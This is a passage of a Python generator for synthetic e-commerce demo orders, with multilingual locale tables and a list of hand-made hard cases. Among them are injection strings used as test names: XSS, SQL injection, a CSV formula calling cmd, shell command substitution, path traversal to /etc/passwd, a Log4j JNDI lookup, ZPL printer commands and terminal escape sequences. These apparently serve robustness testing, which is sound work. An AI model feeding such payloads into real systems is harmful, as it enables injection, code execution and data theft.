        weight=3, country="UA",
        first=(("Тарас", "taras"), ("Оксана", "oksana"),
               ("Богдан", "bohdan"), ("Соломія", "solomiia"),
               ("Ярослав", "yaroslav"), ("Мирослава", "myroslava"),
               ("Андрій", "andrii"), ("Олена", "olena")),
        last=(("Прикладенко", "prykladenko"), ("Вигаданюк", "vyhadaniuk"),
              ("Тестенко", "testenko"), ("Уявненко", "uiavnenko"),
              ("Зразківська", "zrazkivska")),
        line1=lambda r: "%s, %d, кв. %d" % (
            r.choice(("вул. Прикладна", "просп. Вигаданий", "вул. Тестова",
                      "пров. Уявний")), r.randrange(1, 150),
            r.randrange(1, 99)),
        line2=("під'їзд {n}, ЖК Прикладний", "поверх {n}, Будинок Тестовий"),
        cities=(("Київ", ""), ("Львів", "Львівська обл."),
                ("Харків", "Харківська обл."), ("Одеса", ""),
                ("Дніпро", "")),
        postcode=_pc_digits(5)),
    "EG": dict(
        weight=3, country="EG",
        first=(("فلان", "fulan"), ("علان", "allan"), ("فلانة", "fulana"),
               ("أحمد", "ahmad"), ("فاطمة", "fatima"), ("يوسف", "yusuf"),
               ("مريم", "maryam"), ("ليلى", "layla")),
        last=(("الفلاني", "alfulani"), ("العلاني", "alallani"),
              ("التجريبي", "altajribi"), ("المثالي", "almithali"),
              ("الخيالي", "alkhayali")),
        line1=lambda r: "%s %s، %s" % (
            _ar_digits(r.randrange(1, 90)),
            r.choice(("شارع المثال", "شارع التجربة", "طريق الخيال",
                      "ميدان العينة")),
            r.choice(("الدور الثالث", "شقة ٧", "عمارة ١٢"))),
        line2=("بجوار مكتب البريد التجريبي {n}", "عمارة العينة، مدخل {n}"),
        cities=(("القاهرة", "محافظة القاهرة"), ("الإسكندرية", ""),
                ("الجيزة", ""), ("أسوان", "")),
        postcode=_pc_digits(5)),
    "IL": dict(
        weight=3, country="IL",
        first=(("ישראל", "israel"), ("פלוני", "ploni"), ("שרה", "sarah"),
               ("דוד", "david"), ("מרים", "miriam"), ("נועה", "noa"),
               ("אבי", "avi")),
        last=(("ישראלי", "israeli"), ("אלמוני", "almoni"),
              ("ניסיוני", "nisyoni"), ("לדוגמה", "ledugma"),
              ("בדיוני", "bidyoni")),
        line1=_line1_house_last(("רחוב הדוגמה", "שדרות הניסיון",
                                 "סמטת הבדיקה", "רחוב הדמיון")),
        line2=("דירה {n}, בניין הדוגמה", "קומה {n}, מגדל הניסיון"),
        cities=(("תל אביב-יפו", ""), ("ירושלים", ""), ("חיפה", ""),
                ("באר שבע", ""), ("רמת גן", "")),
        postcode=_pc_digits(7)),
}
_LOCALE_ORDER = tuple(LOCALES)
_LOCALE_WEIGHTS = tuple(LOCALES[k]["weight"] for k in _LOCALE_ORDER)

_GIFTS = (
    "Happy birthday, {first}!",
    "Happy {n}th birthday, {first}!",
    "Congratulations on the new flat, {first}!",
    "Merry Christmas {first} — don't open before the {n}th!",
    "Get well soon, {first}. Thinking of you.",
    "Wesołych Świąt, {first}!",
    "¡Feliz cumpleaños, {first}!",
    "Joyeux anniversaire {first} !",
    "Alles Gute zum Geburtstag, {first}!",
    "お誕生日おめでとう、{first}さん！",
    "生日快乐，{first}！",
    "Χρόνια πολλά, {first}!",
    "З днем народження, {first}!",
    "كل عام وأنت بخير يا {first}",
    "מזל טוב, {first}!",
    "Doğum günün kutlu olsun {first}!",
)
_GIFT_MIDDLE = (
    "Sorry it is late again — the {n}th time, I know.",
    "Use it well and think of the {n} cups of tea we owe you.",
    "Remember the summer of '{n} on the pier?",
    "Hope the size is right this time ({n} tries!).",
    "P.S. The cat says hello 🐈 ({n} times).",
)
_GIFT_SENDERS = ("Auntie Placeholder", "Granny Testwell", "Cousin Mockford",
                 "the Samplesworth twins", "Uncle Fictitious",
                 "your Secret Santa #{n}", "Tante Beispiel", "Babcia Zmyślona")


def _ascii_fold(s):
    s = unicodedata.normalize("NFKD", s)
    s = "".join(c for c in s if c.isascii() and (c.isalnum() or c in " -."))
    return re.sub(r"[ .-]+", ".", s.strip().lower()).strip(".")


def _uniq_key(kind, v):
    """What must differ between orders: the full name of a person tuple,
    the canonical number of a phone, the string itself otherwise."""
    if isinstance(v, tuple):
        return v[0]
    if kind == "phone":
        return phone_key(v) or v
    return v


def _native(x):
    return x[0] if isinstance(x, tuple) else x


def _roman(x):
    return x[1] if isinstance(x, tuple) else _ascii_fold(x)


class _Gen:
    """Deterministic generator state: one random.Random plus the pools used
    to keep refs (always) and PII (for demo-sized runs) unique."""

    def __init__(self, seed, now, unique):
        self.r = random.Random(seed)
        self.now = now
        self.unique = unique
        self.cat = catalogue()
        self.refs = set()
        self.used = {"name": set(), "line1": set(), "phone": set(),
                     "email": set()}

    def _uniq(self, kind, make, fallback=None, tries=50):
        """Call make() until it returns an unused value (when unique);
        when its pool seems exhausted, use fallback() the same way."""
        v = make()
        if not self.unique:
            return v
        for _ in range(tries):
            if _uniq_key(kind, v) not in self.used[kind]:
                break
            v = make()
        else:
            if fallback is None:
                raise RuntimeError("pool for %s exhausted" % kind)
            return self._uniq(kind, fallback)
        self.reserve(kind, v)
        return v

    def reserve(self, kind, v):
        """Mark v as taken for kind (name, line1, phone, email)."""
        self.used[kind].add(_uniq_key(kind, v))

    def ref(self):
        r = self.r
        while True:
            v = "114-%07d-%07d" % (r.randrange(10 ** 7), r.randrange(10 ** 7))
            if v not in self.refs:
                self.refs.add(v)
                return v

    def person(self, loc):
        """(full name, first name, e-mail local part) for a locale."""
        L = LOCALES[loc]
        r = self.r
        first = r.choice(L["first"])
        last = r.choice(L["last"])
        if L.get("family_first"):
            name = _native(last) + r.choice(L["join"]) + _native(first)
            return name, _native(first), _roman(first) + "." + _roman(last)
        mid = ""
        if r.random() < 0.3:
            mid = r.choice("ABCDEFGHJKLMNPRSTW") + ". "
        name = _native(first) + " " + mid + _native(last)
        return name, _native(first), _roman(first) + "." + _roman(last)

    def phone(self, loc):
        r = self.r
        plan = LOCALES[loc].get("phone") or r.choice(("GB", "GB", "US", "FR"))
        if plan == "GB":
            n = r.randrange(1000)
            return r.choice(("+44 7700 900%03d", "07700 900%03d",
                             "+447700900%03d")) % n
        if plan == "US":
            area = r.choice((212, 312, 415, 503, 617, 217, 785, 916, 206))
            n = r.randrange(100)
            return r.choice(("+1 %d-555-01%02d", "(%d) 555-01%02d",
                             "+1 %d 555 01%02d")) % (area, n)
        n = r.randrange(10000)
        return r.choice(("+33 6 39 98 %02d %02d", "06 39 98 %02d %02d")) % (
            n // 100, n % 100)

    def email(self, local):
        r = self.r
        dom = r.choice(("example.com", "example.org", "example.net",
                        "example.com", "mail.example.net", "post.test",
                        "fictitious.test", "nowhere.invalid"))
        local = local or "buyer"
        return "%s%d@%s" % (local, r.randrange(10, 1000), dom)

    def gift(self, first):
        r = self.r
        n = r.randrange(2, 99)
        head = r.choice(_GIFTS).format(first=first, n=n)
        if r.random() < 0.55:
            return head
        lines = [head]
        if r.random() < 0.7:
            lines.append(r.choice(_GIFT_MIDDLE).format(n=n))
        sender = r.choice(_GIFT_SENDERS).format(n=n)
        lines.append("With love from " + sender)
        return ("\r\n" if r.random() < 0.1 else "\n").join(lines)

    def items(self):
        r = self.r
        k = r.choices((1, 2, 3, 4, 5), (40, 25, 18, 10, 7))[0]
        pool = list(self.cat)
        out = []
        for _ in range(k):
            p = dict(pool.pop(r.randrange(len(pool))))
            q = r.choices((1, 2, 3, 4, 6, 12), (70, 18, 6, 3, 2, 1))[0]
            item = {"sku": p["sku"]}
            if "ean" in p:
                item["ean"] = p["ean"]
            item["title"] = p["title"]
            item["qty"] = q
            if "bin" in p:
                item["bin"] = p["bin"]
            out.append(item)
        return out

    def times(self, status):
        """(ship_by, updated_at, delivered_at) as datetimes (or None)."""
        r = self.r
        now = self.now
        day = now.replace(hour=0, minute=0, second=0, microsecond=0)
        hour = r.choice((12, 15, 17, 17, 17, 23))
        if status in ("unshipped", "cancelled"):
            days = r.choices((-1, 0, 1, 2, 3, 4), (4, 20, 25, 20, 16, 15))[0]
            ship_by = day + datetime.timedelta(days=days, hours=hour)
            upd = now - datetime.timedelta(minutes=r.randrange(10, 48 * 60))
            return ship_by, upd, None
        ship_by = day - datetime.timedelta(days=r.randrange(1, 4)) + \
            datetime.timedelta(hours=hour)
        shipped = ship_by - datetime.timedelta(minutes=r.randrange(30, 600))
        if status == "shipped":
            return ship_by, min(shipped, now), None
        delivered = shipped + datetime.timedelta(
            minutes=r.randrange(12 * 60, 48 * 60))
        delivered = min(delivered, now)
        return ship_by, delivered, delivered

    def order(self, idx, loc=None):
        r = self.r
        if loc is None:
            loc = r.choices(_LOCALE_ORDER, _LOCALE_WEIGHTS)[0]
        L = LOCALES[loc]
        status = r.choices(STATUSES, (78, 14, 5, 3))[0]
        ship_by, upd, delivered = self.times(status)

        person = self._uniq("name", lambda: self.person(loc),
                            lambda: self.person("GB"))
        name, first, local = person
        city, region = r.choice(L["cities"])
        st = {"name": name,
              "line1": self._uniq("line1", lambda: L["line1"](r),
                                  lambda: LOCALES["GB"]["line1"](r))}
        roll = r.random()
        if roll < 0.35:
            st["line2"] = r.choice(L["line2"]).format(n=r.randrange(1, 60))
        elif roll < 0.45:
            st["line2"] = ""
        st["city"] = city
        if region or r.random() < 0.2:
            st["region"] = region
        st["postcode"] = L["postcode"](r)
        st["country"] = L["country"]
        roll = r.random()
        if roll < 0.7:
            st["phone"] = self._uniq("phone", lambda: self.phone(loc),
                                     lambda: self.phone("GB"))
        elif roll < 0.8:
            st["phone"] = ""

        o = {"id": "D-%d" % (1001 + idx), "ref": self.ref(),
             "status": status, "ship_by": _rfc3339(ship_by),
             "service": r.choices(SERVICES, (50, 20, 15, 15))[0],
             "updated_at": _rfc3339(upd),
             "delivered_at": _rfc3339(delivered) if delivered else None,
             "items": self.items(), "ship_to": st}
        roll = r.random()
        if roll < 0.85:
            o["buyer_email"] = self._uniq(
                "email", lambda: self.email(local),
                lambda: self.email(local + ".%d" % self.r.randrange(10000)))
        elif roll < 0.9:
            o["buyer_email"] = ""
        roll = r.random()
        if roll < 0.33:
            o["gift_message"] = self.gift(first)
        elif roll < 0.38:
            o["gift_message"] = ""
        return o


def _rfc3339(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%SZ")


# ---------------------------------------------------------------------------
# Hard cases: (locale, overrides). An override value DROP removes the key;
# keys are ship_to fields, or "buyer_email", "gift_message", "status",
# "items" ("bare": no optional item fields).

DROP = object()
ESC = "\x1b"
BEL = "\x07"


def _exact(text, nbytes, tail=""):
    """text repeated/cut to exactly nbytes UTF-8 bytes, ending in tail.

    Characters are never split; ASCII '.' pads up to the exact length.
    """
    room = nbytes - len(tail.encode("utf-8"))
    out = []
    used = 0
    while True:
        for ch in text:
            b = len(ch.encode("utf-8"))
            if used + b > room:
                out.append("." * (room - used))
                return "".join(out) + tail
            out.append(ch)
            used += b


SPECIALS = (
    # Non-ASCII names from many scripts.
    ("PL", {"name": "Zażółć Gęślą-Jaźń", "line1": "ul. Źdźbła 12/4"}),
    ("PL", {"name": "Grzegorz Brzęczyszczykiewicz",
            "line1": "Chrząszczyżewoszyce 7", "city": "Łękołody",
            "region": "powiat łękołodzki"}),
    ("ES", {"name": "José Núñez Peña", "line1": "Calle Ñandú 3, 2º izq."}),
    ("DE", {"name": "Jürgen Größe-Weißmüller",
            "line1": "Straße des Größenwahns 1"}),
    ("FR", {"name": "Françoise L'Hôpital-Œuvray",
            "line1": "12 rue de l'Œil-de-Bœuf", "city": "Saint-Étienne"}),
    ("TR", {"name": "İsmail Çağlayan Işıkoğlu",
            "line1": "Ilıca Sokak No: 1 Daire: 2"}),
    ("JP", {"name": "山田\u3000花子", "line1": "架空町1丁目2番3号",
            "line2": "架空ハイツ202号室"}),
    ("JP", {"name": "名無しの権兵衛", "line1": "見本町9丁目9番9号"}),
    ("CN", {"name": "张小明", "line1": "示例路88号"}),
    ("KR", {"name": "홍길동", "line1": "예시로 1",
            "city": "서울특별시 종로구"}),
    ("GR", {"name": "Τάδε Δείνα Παπαδοπούλου",
            "line1": "Οδός Παραδείγματος 1"}),
    ("UA", {"name": "Вася Пупкин-Примеров",
            "line1": "вул. Прикладна, 1, кв. 1"}),
    ("UA", {"name": "Иван Иванович Иванов",
            "line1": "просп. Вигаданий, 100, кв. 10"}),
    ("EG", {"name": "فلان الفلاني", "line1": "١ شارع المثال، شقة ١"}),
    ("IL", {"name": "פלוני אלמוני", "line1": "רחוב הדוגמה 1"}),
    ("IL", {"name": "ישראל ישראלי", "line1": "שדרות הניסיון 2",
            "gift_message": "מזל טוב ישראל!\nמכל המשפחה הבדיונית"}),
    # Bidi controls.
    ("GB", {"name": "Mallory \u202eredivorp\u202c Override",
            "line1": "Flat 1\u202e 0 tsuj\u202c, Bidi Boulevard 7"}),
    ("GB", {"name": "Isolde \u2066Isolated\u2069 Isolani",
            "line2": "\u2067مثال\u2069 Mixed Court"}),
    ("GB", {"name": "Amir \u202bالتجريبي\u202c Embedson",
            "line1": "\u2068First-Strong\u2069 Isolate Street 5"}),
    ("IL", {"name": "\u200fRahel Rlm-Marker\u200e",
            "line1": "\u202eרחוב הבדיקה 9\u202c"}),
    ("EG", {"name": "Noor \u2067نور الفلانية\u2069 Testfield"}),
    # Apostrophes.
    ("IE", {"name": "Siobhán O'Brien-Testerton",
            "line1": "4 O'Connell Sample Street"}),
    ("IT", {"name": "Dario D'Angelo-Finto",
            "line1": "Via dell'Esempio, 1", "city": "Sant'Antioco"}),
    ("IE", {"name": "Seán O’Fictitious", "line1": "1 D’Arcy’s Example Lane"}),
    ("NL", {"name": "Joost van 't Proefje",
            "city": "'s-Hertogenbosch"}),
    # ZPL-looking text.
    ("GB", {"name": "^XA^FDpwned^FS"}),
    ("GB", {"name": "Tilly ~JR Tildesley",
            "line1": "~JA ^XA^MCY^XZ Tilde Terrace 4"}),
    ("US", {"name": "Carl ^FO50,50^FDInjected^FS^XZ Caretaker",
            "line2": "^XA^PW800^FO0,0^GB800,400,400^FS^XZ",
            "city": "Caret^City"}),
    ("DE", {"name": "Hans ~HS~JR Statusmann", "line2": "~JA~JR~JD",
            "gift_message": "^XA^FO20,20^A0N,60^FDGift^FS^XZ\n~JR"}),
    # Terminal escape sequences and other control characters.
    ("GB", {"name": "Eve " + ESC + "[31mRedfern" + ESC + "[0m Escapade"}),
    ("GB", {"name": ESC + "]0;pwned title" + BEL + "Olive Oscillate",
            "line1": "12 Escape Street" + ESC + "[2J" + ESC + "[H"}),
    ("US", {"name": "Carriage Cathy\rReturn Rita",
            "line1": ESC + "[6n 4 Device Status Drive"}),
    ("US", {"name": "Backspace Bob\b\b\bBea Backerman",
            "line2": ESC + "]52;c;cHduZWQ=" + BEL + " Clipboard Court"}),
    ("GB", {"name": "\u009b31mCeeone Csi-Eightbit",
            "city": ESC + "]8;;https://example.invalid/" + ESC +
            "\\Linktown" + ESC + "]8;;" + ESC + "\\"}),
    ("FR", {"name": "Tabitha\tTabulée Del\x7fDelia",
            "line1": "Bell\x07 Belinda Way 3\x0b\x0c"}),
    ("DE", {"name": ESC + "c Reset Reginald " + ESC + "[?1049h",
            "line1": ESC + "P+q544e" + ESC + "\\ DCS-Straße 8"}),
    ("GB", {"name": "Hilda " + ESC + "[8mHidden" + ESC + "[28m Concealer",
            "gift_message": "Happy birthday Hilda!\r\n" + ESC +
            "[5mBlink Blinky" + ESC + "[25m\n^XA^FDgift^FS^XZ"}),
    ("GB", {"name": "Newline\nNelson Splitworth",
            "line1": "7 Line\r\nFeed Lane"}),
    # Strings at the byte limits (multi-byte characters at the boundary).
    ("GB", {"name": _exact("Bartholomew Maximilian Longname-Placeholder ",
                           TEXT_MAX),
            "line1": _exact("Flat 9, Extraordinarily Long Placeholder "
                            "Building, ", TEXT_MAX),
            "line2": _exact("The Annexe ", TEXT_MAX, "ż"),
            "city": "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysilio"
                    "gogogoch"}),
    ("PL", {"name": _exact("Żaneta Źdźbłowska-Gęślą ", TEXT_MAX),
            "line1": _exact("ul. Zażółć Gęślą Jaźń ", TEXT_MAX - 1),
            "line2": _exact("klatka schodowa ", TEXT_MAX, "ę")}),
    ("JP", {"name": _exact("寿限無寿限無五劫の擦り切れ", 255),
            "line1": _exact("架空町一丁目二番三号見本ビル", TEXT_MAX - 4,
                            "\U0001f3e0"),
            "city": _exact("例示市", 240)}),
    ("US", {"name": "Rosalind Maxlength",
            "line1": _exact("4000 Evergreen Terrace, ", 250),
            "line2": _exact("Building C, Suite ", 245),
            "gift_message": _exact(
                "Dear Rosalind,\nThis is a very long card. ", GIFT_MAX,
                "\n— Granny Testwell 🎁")}),
    ("FR", {"name": "Gaëlle Giftlong",
            "gift_message": _exact(
                "Joyeux Noël, Gaëlle ! On a écrit beaucoup trop. ",
                GIFT_MAX - 2, "é")}),
    ("NZ", {"name": "Aroha Placeholder",
            "line1": "1 Example Road",
            "city": "Taumatawhakatangihangakoauauotamateaturipukakapiki"
                    "maungahoronukupokaiwhenuakitanatahu",
            "postcode": "4278", "region": "Hawke's Bay"}),
    # Empty and missing optional fields.
    ("GB", {"name": "Minnie Mumfield-Minimal", "line2": DROP,
            "region": DROP, "phone": DROP, "buyer_email": DROP,
            "gift_message": DROP, "items": "bare"}),
    ("DE", {"name": "Erika Leerfeld-Musterfrau", "line2": "", "region": "",
            "phone": "", "buyer_email": "", "gift_message": ""}),
    ("US", {"name": "Gerald Giftless-Nophone", "phone": DROP,
            "gift_message": DROP}),
    # Whitespace and invisible characters.
    ("GB", {"name": "  Padded Paddington  "}),
    ("GB", {"name": "Double  Space  Dorothy"}),
    ("GB", {"name": "Nora\u00a0Nonbreaking-Space"}),
    ("GB", {"name": "Zero\u200bWidth Wendy\u200d"}),
    ("DE", {"name": "Soft\u00adHyphen Sophie"}),
    ("GB", {"name": "\ufeffBom Bombadil-Marker"}),
    ("US", {"name": "Tagged \U000e0041\U000e0042 Taggart"}),
    # Normalisation, emoji, width forms.
    ("DE", {"name": "Zoe\u0308 Decomposed-Dieresis"}),
    ("DE", {"name": "Zoë Composed-Dieresis"}),
    ("SE", {"name": "\u212bsa \u212bngstr\u00f6m-Signson"}),
    ("GB", {"name": "Emma 🦄 Unicornfield"}),
    ("GB", {"name": "Fam 👩\u200d👩\u200d👧 Familia-Testova"}),
    ("GB", {"name": "🇬🇧🇵🇱 Flagg Flaggerton"}),
    ("JP", {"name": "ﾔﾏﾀﾞ ﾀﾛｳ 半角", "line1": "ｶｸｳﾁｮｳ 1-2-3"}),
    ("JP", {"name": "Ｆｕｌｌｗｉｄｔｈ Ｆｒｅｄ"}),
    ("GB", {"name": "Z\u0334\u0321a\u0337l\u0338g\u0336o\u0335 Zachary"}),
    ("GB", {"name": "Replacement \ufffd Rex", "line2": "Private \ue000 Use"}),
    # Text that other languages would interpret.
    ("GB", {"name": 'Quentin "Quotes" Backslash\\Quigley'}),
    ("US", {"name": "<script>alert('xss')</script> Scripta"}),
    ("US", {"name": "Robert'); DROP TABLE orders;-- Tables"}),
    ("GB", {"name": "%s%s%n%x Printf Prudence"}),
    ("GB", {"name": "=cmd|' /C calc'!A0 Csv Cecil"}),
    ("US", {"name": "$(echo pwned) `id` Shelly Shellcode"}),
    ("GB", {"name": "../../etc/passwd Traversal Trevor"}),
    ("GB", {"name": "{{7*7}} ${jndi:ldap://example.invalid/a} Tamsin"}),
    # Unusual but valid contact details.
    ("IE", {"name": "Oisín Plusaddress",
            "buyer_email": "o'brien+gift@example.org"}),
    ("ES", {"name": "Ñandú Idnlocal", "buyer_email": "ñandú@example.test"}),
    ("US", {"name": "Shouty Uppercase-Mailer",
            "buyer_email": "SHOUTY.UPPERCASE@EXAMPLE.COM",
            "phone": "(212) 555-0100"}),
)


def _apply_special(o, overrides, gen):
    st = o["ship_to"]
    for k, v in overrides.items():
        if k == "items":
            o["items"] = [{"sku": it["sku"], "title": it["title"],
                           "qty": it["qty"]} for it in o["items"]]
            continue
        target = st if k in SHIP_TO_KEYS else o
        if v is DROP:
            target.pop(k, None)
        else:
            target[k] = v
    # Keep the documented key order after overrides.
    o["ship_to"] = {k: st[k] for k in SHIP_TO_KEYS if k in st}
    return {k: o[k] for k in ORDER_KEYS if k in o}


def _special_locale(loc):
    """NZ and a few others are not regular locales: borrow GB's tables."""
    return loc if loc in LOCALES else "GB"


def generate(count=DEMO_COUNT, seed=DEMO_SEED, now=None, specials=True):
    """Return a list of count orders (dicts), deterministic in seed/now.

    now: a timezone-aware datetime (default DEFAULT_NOW). With specials,
    order 2, 6, 10, ... (index % 4 == 1) carry the hand-made hard cases
    until they run out. Ids are D-1001, D-1002, ...
    """
    if now is None:
        now = parse_now(DEFAULT_NOW)
    gen = _Gen(seed, now, count <= UNIQUE_PII_MAX)
    # Reserve the hard cases' PII first so random values cannot clash.
    if gen.unique and specials:
        for _, ov in SPECIALS:
            for k, kind in (("name", "name"), ("line1", "line1"),
                            ("phone", "phone"), ("buyer_email", "email")):
                if isinstance(ov.get(k), str) and ov[k]:
                    gen.reserve(kind, ov[k])
    orders = []
    todo = list(SPECIALS) if specials else []
    for i in range(count):
        if todo and i % 4 == 1:
            loc, ov = todo.pop(0)
            o = gen.order(i, _special_locale(loc))
            if loc not in LOCALES:
                o["ship_to"]["country"] = loc
                o["ship_to"]["phone"] = gen._uniq(
                    "phone", lambda: gen.phone("GB"))
            o = _apply_special(o, ov, gen)
        else:
            o = gen.order(i)
        orders.append(o)
    if gen.unique:
        _fix_postcodes(gen, orders)
    return orders


def plain_text(orders):
    """The non-PII values of the orders (ids, refs, times, status, service,
    SKUs, EANs, bins) joined by newlines. They are stored in plain, so no
    PII string may be part of them: a byte scan would find it there."""
    vals = []
    for o in orders:
        for k in ("id", "ref", "status", "service", "ship_by", "updated_at",
                  "delivered_at"):
            if isinstance(o.get(k), str):
                vals.append(o[k])
        for it in o.get("items", ()):
            for k in ("sku", "ean", "bin"):
                if isinstance(it, dict) and isinstance(it.get(k), str):
                    vals.append(it[k])
    return "\n".join(vals)


def scanned_pii(o):
    """(field, string) pairs a PII scan looks for in order o, with the
    rules of tests/lib/piiscan.py (trimmed, 4+ bytes, postcodes 6+)."""
    st = o.get("ship_to") if isinstance(o.get("ship_to"), dict) else {}
    out = []
    for k in ("name", "line1", "line2", "city", "region", "phone",
              "postcode"):
        out.append(("ship_to." + k, st.get(k)))
    for k in ("buyer_email", "gift_message"):
        out.append((k, o.get(k)))
    g = o.get("gift_message")
    if isinstance(g, str):
        out += [("gift_message", line) for line in re.split(r"\r\n|\r|\n", g)]
    res = []
    for f, v in out:
        if not isinstance(v, str):
            continue
        v = v.strip()
        n = len(v.encode("utf-8", "surrogatepass"))
        if n >= 4 and (f != "ship_to.postcode" or n >= 6):
            res.append((f, v))
    return res


def _fix_postcodes(gen, orders):
    """Redraw digit postcodes that happen to be part of a ref or EAN.

    Quadratic: only for demo-sized runs (piiscan.py skips such strings
    in bigger ones)."""
    blob = plain_text(orders)
    by_country = {L["country"]: L for L in LOCALES.values()}
    for o in orders:
        st = o["ship_to"]
        L = by_country.get(st["country"])
        if L is None:
            continue
        while len(st["postcode"]) >= 6 and st["postcode"] in blob:
            st["postcode"] = L["postcode"](gen.r)


def dumps_document(orders, compact=False):
    """{"orders":[...]} as text (UTF-8, not ASCII-escaped), newline-ended.

    Pretty (indent 2) as committed; compact puts one order per line, which
    is several times faster and smaller for benchmark-sized documents.
    """
    if not compact:
        return json.dumps({"orders": orders}, ensure_ascii=False,
                          indent=2) + "\n"
    enc = json.JSONEncoder(ensure_ascii=False, separators=(",", ":"))
    return ('{"orders":[\n' + ",\n".join(enc.encode(o) for o in orders)
            + "\n]}\n")


def parse_now(s):
    """Parse --now: "now", an RFC 3339 time or a date; UTC datetime."""
    if s == "now":
        t = datetime.datetime.now(datetime.timezone.utc)
        return t.replace(second=0, microsecond=0)
    if re.fullmatch(r"[0-9]{4}-[0-9]{2}-[0-9]{2}", s):
        s += "T00:00:00Z"
    if s.endswith("Z") or s.endswith("z"):
        s = s[:-1] + "+00:00"
    t = datetime.datetime.fromisoformat(s)
    if t.tzinfo is None:
        raise ValueError("time without a zone")
    return t.astimezone(datetime.timezone.utc).replace(microsecond=0)


def _write(path, text):
    data = text.encode("utf-8")
    if path == "-":
        sys.stdout.buffer.write(data)
        sys.stdout.buffer.flush()
        return
    if os.path.exists(path) and not os.path.isfile(path):
        # A device, FIFO or the like (say /dev/null): write into it.
        # Replacing it by rename would put a regular file in its place.
        with open(path, "wb") as f:
            f.write(data)
        return
    d = os.path.dirname(os.path.abspath(path))
    fd, tmp = tempfile.mkstemp(prefix=".gen-demo-orders.", dir=d)
    try:
        with os.fdopen(fd, "wb") as f:
            f.write(data)
        os.chmod(tmp, 0o644)
        os.replace(tmp, path)
    except BaseException:
        os.unlink(tmp)
        raise


def _main(argv):
    here = os.path.dirname(os.path.abspath(__file__))
    ap = argparse.ArgumentParser(
        description="Write fulfil's synthetic demo orders (deterministic).")
    ap.add_argument("-o", "--output",
                    default=os.path.join(here, "demo-orders.json"),
                    help='output file, "-" for stdout '
                    "(default: demo-orders.json next to this script)")
    ap.add_argument("--count", type=int, default=DEMO_COUNT,
                    help="number of orders (default %(default)s)")
    ap.add_argument("--seed", type=int, default=DEMO_SEED,
                    help="random seed (default %(default)s)")
    ap.add_argument("--now", nargs="?", const="now", default=DEFAULT_NOW,
                    metavar="WHEN",
                    help="base time, RFC 3339 or a date; alone: the clock "
                    "(default %(default)s)")
    ap.add_argument("--compact", action="store_true",
                    help="one order per line instead of pretty-printed")
    ap.add_argument("--check", metavar="FILE",
                    help="validate an orders file and exit")
    a = ap.parse_args(argv)

    if a.check:
        try:
            with open(a.check, "rb") as f:
                doc = json.loads(f.read())
        except (OSError, ValueError) as e:
            print("%s: cannot read: %s" % (a.check, type(e).__name__),
                  file=sys.stderr)
            return 1
        if not isinstance(doc, dict) or not isinstance(doc.get("orders"),
                                                       list):
            print("%s: not {\"orders\":[...]}" % a.check, file=sys.stderr)
            return 1
        problems = check_orders(doc["orders"])
        for p in problems:
            print("%s: %s" % (a.check, p), file=sys.stderr)
        if not problems:
            print("%s: %d valid orders" % (a.check, len(doc["orders"])),
                  file=sys.stderr)
        return 1 if problems else 0

    if a.count < 1:
        ap.error("--count must be at least 1")
    try:
        now = parse_now(a.now)
    except ValueError:
        ap.error("--now: not an RFC 3339 time or a date")
    orders = generate(a.count, a.seed, now)
    problems = check_orders(orders, unique_pii=a.count <= UNIQUE_PII_MAX)
    if problems:
        for p in problems[:50]:
            print("self-check: " + p, file=sys.stderr)
        print("self-check failed: %d problems, nothing written"
              % len(problems), file=sys.stderr)
        return 1
    _write(a.output, dumps_document(orders, a.compact))
    return 0


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
